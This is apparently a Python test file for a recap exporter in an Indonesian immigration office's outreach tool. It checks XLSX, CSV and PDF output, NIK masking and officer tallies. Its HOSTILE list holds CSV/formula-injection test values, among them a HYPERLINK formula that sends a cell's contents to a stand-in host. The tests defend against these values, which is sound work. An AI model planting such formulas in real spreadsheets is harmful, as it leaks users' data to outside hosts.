"""The recap's files: XLSX read back with openpyxl (sheet names, totals, formula-like names kept
as text — bad input 33), CSV, the PDF in the letterhead, personal data only when asked."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from petugaspembina.demo import generate
from petugaspembina.documents.pdfout import OutputError
from petugaspembina.documents.recap_pdf import render_recap_pdf
from petugaspembina.documents.spreadsheet import FORMULA_STARTS, csv_safe, write_csv, write_xlsx
from petugaspembina.store.recap import RecapFilter, compute_recap
from petugaspembina.store.store import Store

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab Awal",
    "\rCR Awal",
]


@pytest.fixture
def office(tmp_path: Path) -> Store:
    store = Store.open(tmp_path / "kantor.sqlite3")
    generate(store, seed=3, sessions=4)
    session_id = store.rows("SELECT id FROM sessions ORDER BY date LIMIT 1")[0]["id"]
    for name in HOSTILE:  # control characters are cleaned on entry; the rest stays as typed
        person = store.write(
            "people",
            {"full_name": name, "sex": "P", "birth_year": 1990, "nik": "3201234567890001"},
        )
        store.write("attendance", {"session_id": session_id, "person_id": person})
    return store


def test_xlsx_has_one_sheet_per_breakdown_and_totals_that_match(
    office: Store, tmp_path: Path
) -> None:
    recap = compute_recap(office, RecapFilter())
    target = write_xlsx(office, recap, tmp_path / "rekap.xlsx")
    book = load_workbook(target)
    assert book.sheetnames[0] == "Ringkasan"
    assert book.sheetnames[-3:] == ["Kegiatan", "Daftar Hadir", "Rujukan"]
    assert "Kehadiran per jenis kelamin" in book.sheetnames
    assert len(book.sheetnames) == 1 + len(recap.breakdowns) + 3
    sex = book["Kehadiran per jenis kelamin"]
    rows = list(sex.iter_rows(values_only=True))
    assert rows[-1] == ("Jumlah", recap.sign_ins)
    assert sum(r[1] for r in rows[1:-1]) == recap.sign_ins
    assert book["Daftar Hadir"].max_row - 1 == recap.sign_ins
    assert book["Kegiatan"].max_row - 1 == recap.sessions
    summary = {r[0]: r[1] for r in book["Ringkasan"].iter_rows(values_only=True) if r and r[0]}
    assert summary["Jumlah tanda hadir"] == recap.sign_ins
    assert summary["Peserta unik"] == recap.participants


def test_bad_input_33_formula_like_names_stay_text_in_xlsx(office: Store, tmp_path: Path) -> None:
    recap = compute_recap(office, RecapFilter())
    target = write_xlsx(office, recap, tmp_path / "rekap.xlsx", personal=True)
    sheet = load_workbook(target)["Daftar Hadir"]
    names = {row[0].value: row[0] for row in sheet.iter_rows(min_row=2)}
    for hostile in HOSTILE:
        stored = next(v for k, v in names.items() if k and k.strip() == hostile.strip())
        assert stored.data_type == "s"  # a string, never a formula
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_bad_input_33_formula_like_names_get_an_apostrophe_in_csv(
    office: Store, tmp_path: Path
) -> None:
    recap = compute_recap(office, RecapFilter())
    write_csv(office, recap, tmp_path / "csv", personal=True)
    with (tmp_path / "csv" / "daftar_hadir.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [row[0] for row in csv.reader(handle, delimiter=";")]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert "'" + HOSTILE[0] in cells
    assert csv_safe(42) == 42 and csv_safe("Siti") == "Siti"
    assert csv_safe("\tx") == "'\tx" and csv_safe("\rx") == "'\rx"


def test_personal_data_only_when_asked_and_nik_masked_unless_asked_again(
    office: Store, tmp_path: Path
) -> None:
    recap = compute_recap(office, RecapFilter())
    plain = load_workbook(write_xlsx(office, recap, tmp_path / "a.xlsx"))["Daftar Hadir"]
    header = [c.value for c in next(plain.iter_rows(max_row=1))]
    assert "Nama" not in header and "NIK" not in header
    values = {c.value for row in plain.iter_rows() for c in row}
    assert HOSTILE[0] not in values
    masked = load_workbook(write_xlsx(office, recap, tmp_path / "b.xlsx", personal=True))
    niks = {row[1] for row in masked["Daftar Hadir"].iter_rows(min_row=2, values_only=True)}
    assert "3201********0001" in niks and "3201234567890001" not in niks
    full = load_workbook(
        write_xlsx(office, recap, tmp_path / "c.xlsx", personal=True, full_nik=True)
    )
    niks = {row[1] for row in full["Daftar Hadir"].iter_rows(min_row=2, values_only=True)}
    assert "3201234567890001" in niks


def test_referral_sheet_never_carries_narratives(office: Store, tmp_path: Path) -> None:
    office.write(
        "referrals",
        {"narrative": "Rahasia kronologi"},
        office.rows("SELECT id FROM referrals LIMIT 1")[0]["id"],
    )
    recap = compute_recap(office, RecapFilter())
    book = load_workbook(write_xlsx(office, recap, tmp_path / "r.xlsx", personal=True))
    values = {c.value for row in book["Rujukan"].iter_rows() for c in row}
    assert "Rahasia kronologi" not in values


def test_xlsx_refuses_a_wrong_suffix_or_missing_folder(office: Store, tmp_path: Path) -> None:
    recap = compute_recap(office, RecapFilter())
    with pytest.raises(OutputError, match=r"\.xlsx"):
        write_xlsx(office, recap, tmp_path / "rekap.pdf")
    with pytest.raises(OutputError, match="tidak ada"):
        write_xlsx(office, recap, tmp_path / "tidak" / "rekap.xlsx")


def test_recap_pdf_in_the_letterhead_with_every_breakdown(office: Store, tmp_path: Path) -> None:
    from pypdf import PdfReader

    recap = compute_recap(office, RecapFilter("2026-01-01", "2026-12-31"))
    target = render_recap_pdf(office, recap, tmp_path / "rekap.pdf")
    text = "\n".join(page.extract_text() for page in PdfReader(target).pages)
    assert "REKAPITULASI KEGIATAN DESA BINAAN IMIGRASI" in text
    assert "1 Januari 2026 s.d. 31 Desember 2026" in text
    for breakdown in recap.breakdowns:
        assert breakdown.title in text
    assert "KANTOR IMIGRASI" in text.upper()


def test_xlsx_dates_are_real_date_cells(office: Store, tmp_path: Path) -> None:
    from datetime import datetime

    recap = compute_recap(office, RecapFilter())
    sheet = load_workbook(write_xlsx(office, recap, tmp_path / "rekap.xlsx"))["Kegiatan"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("Tanggal") + 1
    first = sheet.cell(row=2, column=column)
    assert isinstance(first.value, datetime) and first.number_format == "d mmm yyyy"


def test_per_officer_tables_say_a_two_officer_session_counts_on_both(
    tmp_path: Path,
) -> None:
    """Three sessions: one run by Andi and Budi together (4 sign-ins), one by Andi (2), one
    with no officer (1). Each officer's rows count their sessions; the total line counts each
    session and sign-in once, and a note says why the rows add up to more."""
    from pypdf import PdfReader

    store = Store.open(tmp_path / "kantor.sqlite3")
    andi = store.write("officers", {"name": "Andi Saputra"})
    budi = store.write("officers", {"name": "Budi Hartono"})
    for officers, people in (([andi, budi], 4), ([andi], 2), ([], 1)):
        session = store.write(
            "sessions", {"title": "Sosialisasi", "date": "2026-03-02", "officer_ids": officers}
        )
        for n in range(people):
            person = store.write("people", {"full_name": f"Peserta {n}", "sex": "L"})
            store.write("attendance", {"session_id": session, "person_id": person})
    recap = compute_recap(store, RecapFilter())
    assert (recap.sessions, recap.sign_ins) == (3, 7)
    sessions = recap.breakdown("kegiatan_per_petugas")
    assert [(r.label, r.count) for r in sessions.rows] == [
        ("Andi Saputra", 2),
        ("Budi Hartono", 1),
        ("Tidak diisi", 1),
    ]
    assert sessions.total == 3 and sum(r.count for r in sessions.rows) == 4
    sign_ins = recap.breakdown("hadir_per_petugas")
    assert [(r.label, r.count) for r in sign_ins.rows] == [
        ("Andi Saputra", 6),
        ("Budi Hartono", 4),
        ("Tidak diisi", 1),
    ]
    assert sign_ins.total == 7
    assert "dihitung pada keduanya" in sign_ins.note
    assert recap.breakdown("hadir_per_desa").total == 7  # the other tables still add up

    book = load_workbook(write_xlsx(store, recap, tmp_path / "rekap.xlsx"))
    rows = list(book["Kegiatan per petugas"].iter_rows(values_only=True))
    assert rows[-2] == ("Jumlah (tanpa hitung ganda)", 3)
    assert rows[-1][0].startswith(
        "Catatan: Satu kegiatan dengan dua petugas dihitung pada keduanya"
    )
    [written] = [
        p for p in write_csv(store, recap, tmp_path / "csv") if "hadir_per_petugas" in p.name
    ]
    lines = list(csv.reader(written.open(encoding="utf-8-sig"), delimiter=";"))
    assert lines[-2] == ["Jumlah (tanpa hitung ganda)", "7"]
    pdf = render_recap_pdf(store, recap, tmp_path / "rekap.pdf")
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(pdf).pages).split())
    assert "Kegiatan per petugas" in text and "Jumlah (tanpa hitung ganda)" in text
    assert "Satu kegiatan dengan dua petugas dihitung pada keduanya" in text
    assert recap.to_json()["breakdowns"]["hadir_per_petugas"]["total"] == 7


@pytest.mark.slow
@pytest.mark.parametrize("count", [4, 5, 7])
def test_recap_pdf_signature_never_alone_on_its_page(tmp_path: Path, count: int) -> None:
    """With 5 or 7 demo sessions the signature once fell alone on a last page."""
    from pypdf import PdfReader

    with Store.open(tmp_path / "rekap.sqlite3") as store:
        generate(store, seed=count, sessions=count)
        recap = compute_recap(store, RecapFilter("2026-01-01", "2026-12-31"))
        target = render_recap_pdf(store, recap, tmp_path / "rekap.pdf")
    last = PdfReader(target).pages[-1].extract_text()
    assert "(nama kepala kantor)" in last  # the signature is on the last page…
    assert "Sertifikat" in last and "Jumlah" in last  # …with the last table, not by itself
